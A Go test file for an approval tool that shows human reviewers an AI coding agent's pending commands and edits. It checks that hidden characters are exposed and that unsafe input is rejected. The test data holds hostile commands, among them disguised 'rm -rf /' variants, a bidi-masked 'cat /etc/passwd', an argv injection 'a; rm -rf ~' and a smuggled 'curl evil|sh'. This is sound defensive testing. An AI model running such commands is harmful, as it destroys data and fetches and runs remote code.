package prompt

import (
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"approvalbot/gate"
)

func TestVisible(t *testing.T) {
	tests := []struct {
		name, in, want, wantLine string
	}{
		{"plain", "git status", "git status", "git status"},
		{"bidi override", "ls \u202Etxt.exe", "ls ⟨U+202E⟩txt.exe", "ls ⟨U+202E⟩txt.exe"},
		{"zero width", "r\u200Bm -rf /", "r⟨U+200B⟩m -rf /", "r⟨U+200B⟩m -rf /"},
		{"carriage return", "echo ok\rrm -rf /", "echo ok⟨U+000D⟩rm -rf /", "echo ok⟨U+000D⟩rm -rf /"},
		{"newline kept in body", "a\nb\tc", "a\nb\tc", "a⟨U+000A⟩b⟨U+0009⟩c"},
		{"escape sequence", "\x1b[2Jx", "⟨U+001B⟩[2Jx", "⟨U+001B⟩[2Jx"},
		{"invalid utf8", "a\xffb", "a⟨0xFF⟩b", "a⟨0xFF⟩b"},
		{"nbsp", "rm\u00a0-rf", "rm⟨U+00A0⟩-rf", "rm⟨U+00A0⟩-rf"},
		{"tag char", "x\U000E0041", "x⟨U+E0041⟩", "x⟨U+E0041⟩"},
		{"line separator", "a\u2028b", "a⟨U+2028⟩b", "a⟨U+2028⟩b"},
		{"emoji and accents kept", "café 🚀", "café 🚀", "café 🚀"},
		{"replacement char kept", "a\uFFFDb", "a\uFFFDb", "a\uFFFDb"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := Visible(tt.in); got != tt.want {
				t.Errorf("Visible(%q) = %q, want %q", tt.in, got, tt.want)
			}
			if got := VisibleLine(tt.in); got != tt.wantLine {
				t.Errorf("VisibleLine(%q) = %q, want %q", tt.in, got, tt.wantLine)
			}
		})
	}
}

func TestTruncate(t *testing.T) {
	tests := []struct {
		name    string
		in      string
		max     int
		wantCut bool
		prefix  string
	}{
		{"fits", "hello", 5, false, "hello"},
		{"cut ascii", strings.Repeat("a", 100), 50, true, "aaaa"},
		{"cut multibyte", strings.Repeat("é🚀", 100), 60, true, "é🚀é🚀"},
		{"tiny max", strings.Repeat("a", 100), 3, true, "\n… "},
		{"zero", "abc", 0, true, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, cut := Truncate(tt.in, tt.max)
			if cut != tt.wantCut {
				t.Fatalf("cut = %v, want %v", cut, tt.wantCut)
			}
			if n := utf8.RuneCountInString(got); n > tt.max {
				t.Errorf("len %d runes > max %d: %q", n, tt.max, got)
			}
			if !strings.HasPrefix(got, tt.prefix) {
				t.Errorf("got %q, want prefix %q", got, tt.prefix)
			}
			if cut && tt.max > 40 && !strings.Contains(got, "✂ cut:") {
				t.Errorf("no cut marker in %q", got)
			}
			if !utf8.ValidString(got) {
				t.Errorf("invalid UTF-8 %q", got)
			}
		})
	}
	got, _ := Truncate(strings.Repeat("a", 100), 50)
	want := strings.Repeat("a", 50-utf8.RuneCountInString(CutMarker(100))) + CutMarker(100-(50-utf8.RuneCountInString(CutMarker(100))))
	if got != want {
		t.Errorf("marker count: got %q, want %q", got, want)
	}
}

func FuzzVisibleTruncate(f *testing.F) {
	for _, s := range []string{"", "git status", "a\u202Eb", "\xff\xfe", "é🚀\n\t\r", strings.Repeat("x", 300)} {
		f.Add(s, 20)
	}
	f.Fuzz(func(t *testing.T, s string, max int) {
		v := Visible(s)
		if !utf8.ValidString(v) {
			t.Fatalf("Visible(%q) not valid UTF-8", s)
		}
		line := VisibleLine(s)
		for _, r := range line {
			if r == '\n' || r == '\r' || r == '\u202E' || r == '\u200B' || r == '\x00' || r == '\x1b' {
				t.Fatalf("VisibleLine(%q) kept %U", s, r)
			}
		}
		if Visible(v) != v {
			t.Fatalf("Visible not idempotent on %q", s)
		}
		if max < 0 || max > 1000 {
			max = 1000
		}
		got, cut := Truncate(v, max)
		if utf8.RuneCountInString(got) > max {
			t.Fatalf("Truncate(%q, %d) = %q longer than max", v, max, got)
		}
		if !cut && got != v {
			t.Fatalf("uncut Truncate changed the string")
		}
		if !utf8.ValidString(got) {
			t.Fatalf("Truncate made invalid UTF-8")
		}
	})
}

func TestBuild(t *testing.T) {
	now := time.Date(2026, 1, 2, 12, 0, 0, 0, time.UTC)
	tests := []struct {
		name       string
		a          gate.Approval
		wantKind   BodyKind
		wantBody   string
		wantFields map[string]string
		wantWarn   []string
		wantAlways []string
		wantRisks  []string
	}{
		{
			name: "shell",
			a: gate.Approval{ID: "a1", Agent: "claude", SessionID: "s1", Cwd: "/p", Tool: "Bash",
				Input:    []byte(`{"command":"git push origin main","description":"push"}`),
				Judged:   &gate.Judged{Kind: gate.KindShell, Command: "git push origin main"},
				Deadline: now.Add(10 * time.Minute),
				Evaluation: gate.Evaluation{Decision: gate.Ask, Kind: gate.KindShell, Reason: "no rule matched",
					Rule:        &gate.RuleRef{Layer: "static", File: "rules.jsonc", Line: 4, Tool: "Bash", Pattern: "*", Action: gate.Ask},
					AlwaysRules: []gate.AlwaysPattern{{Tool: "Bash", Pattern: "git push *"}}}},
			wantKind: BodyCommand, wantBody: "git push origin main",
			wantFields: map[string]string{"Agent": "claude", "Session": "s1", "Cwd": "/p", "Tool": "Bash", "ID": "a1",
				"Asked by": "rules.jsonc:4 Bash: *",
				"Deadline": "2026-01-02 12:10:00 UTC (in 10m0s)"},
			wantAlways: []string{"git push *"},
		},
		{
			name: "shell outside project with bidi",
			a: gate.Approval{Tool: "Bash", Input: []byte(`{"command":"cat /etc/\u202Epasswd"}`),
				Judged: &gate.Judged{Kind: gate.KindShell, Command: "cat /etc/\u202Epasswd"},
				Evaluation: gate.Evaluation{Kind: gate.KindShell, OutsideProject: true, OutsidePaths: []string{"/etc/\u202Epasswd"},
					Always: []string{"cat *"}}},
			wantKind: BodyCommand, wantBody: "cat /etc/⟨U+202E⟩passwd",
			wantFields: map[string]string{"Outside": "/etc/⟨U+202E⟩passwd"},
			wantRisks:  []string{RiskReadsOutside},
			wantWarn:   []string{"invisible or control characters in the input (shown as ⟨U+…⟩)"},
			wantAlways: []string{"cat *"},
		},
		{
			name: "edit diff",
			a: gate.Approval{Tool: "Edit", Input: []byte(`{"file_path":"/p/a.go","old_string":"a\nb\nc","new_string":"a\nB\nc"}`),
				Judged:     &gate.Judged{Kind: gate.KindWrite, Paths: []string{"/p/a.go"}, Edits: []gate.Edit{{Old: "a\nb\nc", New: "a\nB\nc"}}},
				Evaluation: gate.Evaluation{AlwaysRules: []gate.AlwaysPattern{{Tool: "Edit", Pattern: "/p/*"}}}},
			wantKind: BodyDiff, wantBody: "--- /p/a.go\n+++ /p/a.go\n@@ -1,3 +1,3 @@\n a\n-b\n+B\n c",
			wantFields: map[string]string{"Path": "/p/a.go"},
			wantAlways: []string{"/p/*"},
		},
		{
			name: "write content",
			a: gate.Approval{Tool: "Write", Input: []byte(`{"file_path":"x.txt","content":"hello\nworld"}`),
				Judged: &gate.Judged{Kind: gate.KindWrite, Paths: []string{"x.txt"}, Content: ptr("hello\nworld")}},
			wantKind: BodyContent, wantBody: "hello\nworld", wantFields: map[string]string{"Path": "x.txt"},
		},
		{
			name: "every judged path is shown",
			a: gate.Approval{Tool: "NotebookEdit", Input: []byte(`{"notebook_path":"a.ipynb","file_path":"~/.claude/settings.json","new_source":"x"}`),
				Judged: &gate.Judged{Kind: gate.KindWrite, Paths: []string{"~/.claude/settings.json", "a.ipynb"}, Content: ptr("x")}},
			wantKind:   BodyJSON,
			wantBody:   "{\n  \"notebook_path\": \"a.ipynb\",\n  \"file_path\": \"~/.claude/settings.json\",\n  \"new_source\": \"x\"\n}",
			wantFields: map[string]string{"Path": "~/.claude/settings.json, a.ipynb"},
		},
		{
			name: "argv shown as judged, re-quoted",
			a: gate.Approval{Tool: "shell", Input: []byte(`{"command":["touch","a; rm -rf ~"]}`),
				Judged: &gate.Judged{Kind: gate.KindShell, Command: "touch 'a; rm -rf ~'"}},
			wantKind: BodyCommand, wantBody: "touch 'a; rm -rf ~'",
		},
		{
			name:     "nothing judged: the raw input, never a reading of it",
			a:        gate.Approval{Tool: "Bash", Input: []byte(`{"command":"ls"}`)},
			wantKind: BodyJSON, wantBody: "{\n  \"command\": \"ls\"\n}",
		},
		{
			name:     "other tool json",
			a:        gate.Approval{Tool: "mcp__github__create_issue", Input: []byte(`{"title":"x","body":"<b>"}`), Judged: &gate.Judged{Kind: gate.KindName}},
			wantKind: BodyJSON, wantBody: "{\n  \"title\": \"x\",\n  \"body\": \"<b>\"\n}",
		},
		{
			name:       "always with another tool",
			a:          gate.Approval{Tool: "Bash", Input: []byte(`{"command":"echo > f"}`), Judged: &gate.Judged{Kind: gate.KindShell, Command: "echo > f"}, Evaluation: gate.Evaluation{Kind: gate.KindShell, AlwaysRules: []gate.AlwaysPattern{{Tool: "Bash", Pattern: "echo *"}, {Tool: "Write", Pattern: "/p/f"}}}},
			wantKind:   BodyCommand,
			wantBody:   "echo > f",
			wantAlways: []string{"echo *", "Write: /p/f"},
		},
		{
			name:     "not json",
			a:        gate.Approval{Tool: "X", Input: []byte("not json\x00")},
			wantKind: BodyJSON, wantBody: "not json⟨U+0000⟩",
			wantWarn: []string{"invisible or control characters in the input (shown as ⟨U+…⟩)"},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			c := Build(&tt.a, now)
			if c.BodyKind != tt.wantKind || c.Body != tt.wantBody {
				t.Errorf("body = %s %q, want %s %q", c.BodyKind, c.Body, tt.wantKind, tt.wantBody)
			}
			got := map[string]string{}
			for _, f := range c.Fields {
				got[f.Name] = f.Value
			}
			for k, v := range tt.wantFields {
				if got[k] != v {
					t.Errorf("field %s = %q, want %q", k, got[k], v)
				}
			}
			if strings.Join(c.Warnings, "|") != strings.Join(tt.wantWarn, "|") {
				t.Errorf("warnings = %q, want %q", c.Warnings, tt.wantWarn)
			}
			if strings.Join(c.Always, "|") != strings.Join(tt.wantAlways, "|") {
				t.Errorf("always = %q, want %q", c.Always, tt.wantAlways)
			}
			if strings.Join(c.Risks, "|") != strings.Join(tt.wantRisks, "|") {
				t.Errorf("risks = %q, want %q", c.Risks, tt.wantRisks)
			}
			if txt := c.Text(); !strings.Contains(txt, c.Body) || !strings.Contains(txt, c.Title) {
				t.Errorf("Text() misses body or title: %q", txt)
			}
		})
	}
}

func TestOutcome(t *testing.T) {
	at := time.Date(2026, 1, 2, 12, 3, 4, 0, time.UTC)
	tests := []struct {
		a    gate.Approval
		want string
	}{
		{gate.Approval{Status: gate.StatusPending}, "Pending"},
		{gate.Approval{Status: gate.StatusApproved, DecidedBy: "@ana", Via: "slack", DecidedAt: &at}, "Approved by @ana via Slack at 2026-01-02 12:03:04 UTC"},
		{gate.Approval{Status: gate.StatusApprovedAlways, DecidedBy: "@ana", Via: "telegram", DecidedAt: &at}, "Approved always by @ana via Telegram at 2026-01-02 12:03:04 UTC"},
		{gate.Approval{Status: gate.StatusDenied, DecidedBy: "bob", Via: "cli", Reason: "too risky\nreally", DecidedAt: &at}, "Denied by bob via CLI at 2026-01-02 12:03:04 UTC: too risky⟨U+000A⟩really"},
		{gate.Approval{Status: gate.StatusDeniedStop, DecidedBy: "bob", Via: "telegram"}, "Denied and stopped by bob via Telegram"},
		{gate.Approval{Status: gate.StatusExpired, Via: "timeout", DecidedAt: &at}, "Expired at 2026-01-02 12:03:04 UTC"},
		{gate.Approval{Status: gate.StatusCancelled, Reason: "agent went away"}, "Cancelled: agent went away"},
	}
	for _, tt := range tests {
		if got := Outcome(&tt.a); got != tt.want {
			t.Errorf("Outcome(%s) = %q, want %q", tt.a.Status, got, tt.want)
		}
	}
}

func TestDiff(t *testing.T) {
	tests := []struct {
		name, old, new, want string
	}{
		{"insert", "a\nb", "a\nx\nb", "@@ -1,2 +1,3 @@\n a\n+x\n b"},
		{"delete all", "a\nb", "", "@@ -1,2 +1,0 @@\n-a\n-b"},
		{"two hunks", "1\n2\n3\n4\n5\n6\n7\n8\n9\n10\n11\n12", "X\n2\n3\n4\n5\n6\n7\n8\n9\n10\n11\nY",
			"@@ -1,4 +1,4 @@\n-1\n+X\n 2\n 3\n 4\n@@ -9,4 +9,4 @@\n 9\n 10\n 11\n-12\n+Y"},
		{"same", "a", "a", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := Diff("", tt.old, tt.new); got != tt.want {
				t.Errorf("Diff = %q, want %q", got, tt.want)
			}
		})
	}
}

func ptr(s string) *string { return &s }

func TestResumeCommand(t *testing.T) {
	tests := []struct {
		name string
		a    gate.Approval
		want string
	}{
		{"not deferred", gate.Approval{SessionID: "3f6d87cc-d83b", Cwd: "/w"}, ""},
		{"deferred", gate.Approval{Deferred: true, SessionID: "3f6d87cc-d83b", Cwd: "/home/ana/my proj"}, "cd '/home/ana/my proj' && claude -p --resume 3f6d87cc-d83b"},
		{"quote in cwd", gate.Approval{Deferred: true, SessionID: "s1", Cwd: "/tmp/it's"}, `cd '/tmp/it'\''s' && claude -p --resume s1`},
		{"no cwd", gate.Approval{Deferred: true, SessionID: "s1"}, "claude -p --resume s1"},
		{"no session", gate.Approval{Deferred: true, Cwd: "/w"}, ""},
		{"session with shell text", gate.Approval{Deferred: true, SessionID: "x; curl evil|sh", Cwd: "/w"}, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := ResumeCommand(&tt.a); got != tt.want {
				t.Errorf("ResumeCommand = %q, want %q", got, tt.want)
			}
			c := Build(&tt.a, time.Now())
			if has := strings.Contains(c.Text(), "Resume: "); has != (tt.want != "") {
				t.Errorf("prompt shows a Resume line: %v, want %v:\n%s", has, tt.want != "", c.Text())
			}
		})
	}
}
